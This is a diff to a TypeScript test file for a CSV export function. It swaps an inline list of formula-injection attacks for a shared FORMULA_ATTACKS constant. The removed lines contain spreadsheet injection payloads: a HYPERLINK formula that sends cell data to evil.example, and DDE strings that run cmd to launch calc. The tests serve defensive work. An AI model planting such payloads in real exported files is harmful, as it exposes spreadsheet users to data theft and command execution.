@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import fc from 'fast-check'
 import { csvField, toCsv, type CsvColumn } from './csv'
-import { parseCsv } from './testing'
+import { FORMULA_ATTACKS, parseCsv } from './testing'
 
 describe('csvField', () => {
   it('leaves plain values bare', () => {
@@ -27,12 +27,7 @@ describe('csvField', () => {
 
 describe('formula injection', () => {
   const attacks = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
-    '+cmd|\' /C calc\'!A0',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '\t=1+1',
-    '\r=1+1',
+    ...FORMULA_ATTACKS,
     '\n=1+1',
     '  =1+1',
     '\uff1d1+1',
